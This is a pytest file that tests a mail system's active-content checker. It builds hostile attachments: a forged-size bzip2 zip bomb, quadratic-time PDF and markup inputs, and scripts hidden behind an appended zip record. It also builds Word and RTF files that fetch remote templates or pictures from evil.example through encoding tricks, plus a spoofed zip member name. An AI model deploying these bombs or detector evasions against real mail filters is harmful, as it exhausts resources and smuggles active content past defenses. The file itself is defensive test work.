"""The check of an original before it is mailed on is bounded in time and memory (R3 #2, H38).

``adapters.inert`` reads bytes a department chose, at every assembly, in the assembling
process with the campaign's lock held. A bzip2 zip member inflates a whole compressed chunk
before any size check, and some scans are quadratic, so the check runs in a child process
killed past ``draft.check_timeout_seconds`` and capped at ``draft.check_max_memory_mb``:
what does not finish is withheld as "unchecked", and the draft is still built. Each test
here failed on the code before H38 (first results in /tmp/notes/H38-inert-bounds.md).
"""

from __future__ import annotations

import base64
import io
import struct
import tracemalloc
import zipfile
import zlib
from pathlib import Path

import pytest
from fixtures.e2e.build import mail
from fixtures.e2e.flow import CAMPAIGN, Flow

from mailenv import MailEnv
from mailflow import bootstrap
from mailflow.adapters.inert import active_content, bounded_active_content
from mailflow.services.assemble import gather_plan

SENDER = "qlkh@sokhcn.example"
SUBJECT = "Re: [2023-H1] Báo cáo sơ kết 6 tháng đầu năm 2023"


def bz2_bomb(inflated: int = 150_000_000) -> bytes:
    """A zip of a few hundred bytes whose bzip2 member declares 10 bytes and inflates to
    ``inflated`` (the reviewer's inert_bz2.py without its encrypted member)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_BZIP2) as zf:
        zf.writestr("notes.txt", b"\0" * inflated)
    data = bytearray(out.getvalue())
    data[22:26] = struct.pack("<I", 10)
    cd = data.find(b"PK\x01\x02")
    data[cd + 24 : cd + 28] = struct.pack("<I", 10)
    return bytes(data)


def quadratic_pdf(size: int = 1_000_000) -> bytes:
    """A PDF of ``/AA`` references the old scan followed one by one, each from the start:
    about 30 hours at 10 MB (R3 #2b)."""
    return b"%PDF-1.4\n" + b"/AA 9 0 R\n" * (size // 10)


def quadratic_markup(size: int = 1_000_000) -> bytes:
    """Markup of ``<img `` never closed: every unbounded ``[^>]*`` runs to the end."""
    return b"<html>" + b"<img " * (size // 5)


def test_a_bzip2_zip_member_is_unchecked_without_being_inflated() -> None:
    bomb = bz2_bomb()
    assert len(bomb) < 1024
    tracemalloc.start()
    try:
        kind = active_content("bao_cao.zip", bomb)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert kind == "unchecked"
    assert peak < 16 * 1024 * 1024, f"{peak / 1e6:.0f} MB allocated for a {len(bomb)}-byte zip"


def test_a_check_past_its_time_limit_is_unchecked() -> None:
    assert bounded_active_content("r.pdf", quadratic_pdf(), timeout=1.0, max_memory_mb=256) == (
        "unchecked"
    )


def test_a_check_past_its_memory_cap_is_unchecked() -> None:
    # a PDF stream inflating to 64 MB is within the byte budget, and cannot fit in 16 MB more
    stream = zlib.compress(b"\0" * (64 * 1024 * 1024), 9)
    pdf = b"%%PDF-1.4\n1 0 obj\n<< /Length %d >>\nstream\n" % len(stream)
    pdf += stream + b"\nendstream\nendobj\n%%EOF\n"
    assert active_content("r.pdf", pdf) == ""
    assert bounded_active_content("r.pdf", pdf, timeout=60.0, max_memory_mb=16) == "unchecked"


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("photo.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 100, ""),
        ("setup.exe", b"MZ" + b"\0" * 100, "programs"),
    ],
)
def test_the_bounded_check_gives_the_same_verdict_as_the_check(
    name: str, data: bytes, kind: str
) -> None:
    assert bounded_active_content(name, data, timeout=60.0, max_memory_mb=256) == kind


@pytest.mark.slow
def test_hostile_originals_are_withheld_as_unchecked_and_the_draft_is_built(
    tmp_path: Path,
) -> None:
    env = MailEnv("embedded", "127.0.0.1", 1, 1)  # never contacted: ingest reads files
    flow = Flow.create(env, tmp_path)
    with flow.config_path.open("a", encoding="utf-8") as f:
        f.write("\n[draft]\ncheck_timeout_seconds = 2\n")
    files = {
        "bao_cao.zip": (bz2_bomb(), "application/zip"),
        "bao_cao.pdf": (quadratic_pdf(), "application/pdf"),
        "bao_cao.dat": (quadratic_markup(), "application/octet-stream"),
    }
    raw = mail(
        SENDER,
        "baocao@sokhcn.example",
        SUBJECT,
        "Gửi báo cáo.",
        attachments=[(n, d, c) for n, (d, c) in files.items()],
    )
    saved = tmp_path / "reply.eml"
    saved.write_bytes(raw)
    flow.run("ingest", str(saved))
    flow.match()
    flow.run("assemble", "--campaign", CAMPAIGN)
    assert flow.query("SELECT path FROM drafts")
    cfg = flow.cfg
    with bootstrap.build(cfg) as app:
        plan = gather_plan(cfg, app.store, app.archive, cfg.campaign(CAMPAIGN), _now())
    withheld = {u.file_name: u.withheld for u in plan.unread}
    assert {n: withheld.get(n) for n in files} == dict.fromkeys(files, "unchecked")


def _now():  # type: ignore[no-untyped-def]
    from datetime import datetime

    return datetime.now().astimezone()


# --- every reader that applies is judged, the worst taken (R3 #1, H38) ---------------------

EOCD = b"PK\x05\x06" + b"\0" * 18  # an empty zip's end record: zipfile.is_zipfile is true
PDF_JS = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))"
    b">>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("r.pdf", PDF_JS + EOCD, "scripts"),
        ("r.html", b"<html><body><script>alert(1)</script></body></html>" + EOCD, "scripts"),
        ("r.rtf", b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}" + EOCD, "objects"),
    ],
    ids=["pdf", "html", "rtf"],
)
def test_an_empty_zip_end_record_appended_to_a_file_does_not_hide_what_it_holds(
    name: str, data: bytes, kind: str
) -> None:
    assert active_content(name, data) == kind


def test_a_zip_named_html_with_a_script_in_its_comment_is_scripts() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("a.txt", "hello")
        zf.comment = b"<script>alert(1)</script>"
    assert active_content("r.html", out.getvalue()) == "scripts"


# --- MIME HTML under another name (R3 #3, H38) ----------------------------------------------

MHT = (
    b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\n'
    b"Content-Location: file:///C:/x/r.htm\r\nContent-Transfer-Encoding: base64\r\n"
    b"Content-Type: text/html\r\n\r\n"
    + base64.encodebytes(b"<html><link rel=Edit-Time-Data href='editdata.mso'></html>")
    + b"\r\n--b\r\nContent-Location: file:///C:/x/editdata.mso\r\n"
    b"Content-Transfer-Encoding: base64\r\nContent-Type: application/x-mso\r\n\r\n"
    b"QWN0aXZlTWltZQAAAfAE\r\n--b--\r\n"
)


@pytest.mark.parametrize("name", ["bao-cao.doc", "bao-cao.dat", "bao-cao.mht"])
def test_mime_html_named_as_a_word_file_is_handled_as_mht(name: str) -> None:
    assert active_content(name, MHT) == "programs"


# --- .docx checks read XML as Word does: references, CDATA, split runs (R3 #4, H38) ---------

_CT = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/content-types"><Default Extension="rels" ContentType="application/'
    b'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
    b'"application/xml"/></Types>'
)
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_TEMPLATE_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
    '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
    'TargetMode="{mode}"/></Relationships>'
)


def _docx(body: str, settings_rels: str = "") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", _CT)
        doc = f'<?xml version="1.0"?><w:document {_W}><w:body>{body}</w:body></w:document>'
        zf.writestr("word/document.xml", doc)
        if settings_rels:
            zf.writestr(
                "word/settings.xml",
                f'<w:settings {_W}><w:attachedTemplate r:id="rId1"/></w:settings>',
            )
            zf.writestr("word/_rels/settings.xml.rels", settings_rels)
    return out.getvalue()


def _field(*codes: str) -> str:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{c}</w:instrText></w:r>' for c in codes)
    return f"<w:p>{runs}</w:p>"


def test_a_remote_template_whose_target_mode_is_a_character_reference_is_links() -> None:
    assert (
        active_content("r.docx", _docx("<w:p/>", _TEMPLATE_RELS.format(mode="&#69;xternal")))
        == "links"
    )


@pytest.mark.parametrize(
    "field",
    [
        _field("INCL", 'UDEPICTURE "http://evil.example/a.png" \\d'),
        _field('&#73;NCLUDEPICTURE "http://evil.example/a.png" \\d'),
        _field('<![CDATA[INCLUDEPICTURE "http://evil.example/a.png" \\d]]>'),
    ],
    ids=["split-across-runs", "character-reference", "cdata"],
)
def test_a_fetching_field_written_as_word_reads_it_is_links(field: str) -> None:
    assert active_content("r.docx", _docx(field)) == "links"


def test_an_ordinary_field_split_across_runs_is_not_withheld() -> None:
    assert (
        active_content("r.docx", _docx(_field("PAGE", " \\* MERGEFORMAT") + _field("NUMPAGES")))
        == ""
    )


# --- what else hid, and what was refused for nothing (R3 #5-#8, #12, H38) -------------------


def _pdf_objstm(parms: bytes, encoded: bytes) -> bytes:
    return (
        b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
        b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode"
        + parms
        + b"/Length %d>>stream\n" % len(encoded)
        + encoded
        + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


def test_a_pdf_object_stream_under_a_predictor_is_unchecked() -> None:
    objs = b"3 0 <</S/JavaScript/JS(app.alert(1))>>"
    rows = [objs[i : i + 4].ljust(4, b" ") for i in range(0, len(objs), 4)]
    encoded = zlib.compress(b"".join(b"\x00" + r for r in rows))  # PNG predictor, type None
    pdf = _pdf_objstm(b"/DecodeParms<</Predictor 12/Columns 4>>", encoded)
    assert active_content("r.pdf", pdf) == "unchecked"


def test_a_ppt_is_unchecked_its_macros_and_objects_live_in_its_document_stream() -> None:
    from test_inert_bypasses import _ole

    assert active_content("slides.ppt", _ole({"PowerPoint Document": b"\x00" * 64})) == "unchecked"


@pytest.mark.parametrize(
    "rtf",
    [
        b'{\\rtf1{\\field{\\*\\fldinst1 INCLUDEPICTURE "http://evil.example/a.png" \\\\d}'
        b"{\\fldrslt x}}}",
        b"{\\rtf1{\\*\\template1 http://evil.example/t.dotm}x}",
    ],
    ids=["fldinst1", "template1"],
)
def test_an_rtf_control_word_with_a_numeric_parameter_still_fetches(rtf: bytes) -> None:
    assert active_content("r.rtf", rtf) == "links"


def test_a_zip_member_with_a_unicode_path_extra_field_is_unchecked() -> None:
    out = io.BytesIO()
    info = zipfile.ZipInfo("notes.txt")
    name = b"notes.js"
    # Info-ZIP Unicode Path (0x7075): version 1, CRC-32 of the header name, the real name
    body = b"\x01" + struct.pack("<I", zlib.crc32(b"notes.txt")) + name
    info.extra = struct.pack("<HH", 0x7075, len(body)) + body
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr(info, b"WScript.Echo(1)")
    assert active_content("r.zip", out.getvalue()) == "unchecked"


def test_a_presentation_with_a_native_chart_is_not_withheld() -> None:
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/package" '
        'Target="../embeddings/Microsoft_Excel_Worksheet.xlsx"/></Relationships>'
    )
    book = io.BytesIO()
    with zipfile.ZipFile(book, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", _CT)
        zf.writestr("xl/workbook.xml", "<workbook/>")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", _CT)
        zf.writestr("ppt/charts/chart1.xml", "<c:chartSpace/>")
        zf.writestr("ppt/charts/_rels/chart1.xml.rels", rels)
        zf.writestr("ppt/embeddings/Microsoft_Excel_Worksheet.xlsx", book.getvalue())
    assert active_content("slides.pptx", out.getvalue()) == ""


def test_a_pdf_opening_at_a_page_that_has_a_web_link_is_not_withheld() -> None:
    pdf = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/GoTo/D[3 0 R/Fit]>>>>"
        b"endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[4 0 R]>>endobj\n"
        b"4 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 100 20]"
        b"/A<</S/URI/URI(https://www.most.gov.vn/)>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )
    assert active_content("scan.pdf", pdf) == ""
    indirect = pdf.replace(b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>", b"/OpenAction 6 0 R")
    indirect = indirect.replace(b"trailer", b"6 0 obj<</S/GoTo/D[3 0 R/Fit]>>endobj\ntrailer")
    assert active_content("scan.pdf", indirect) == ""
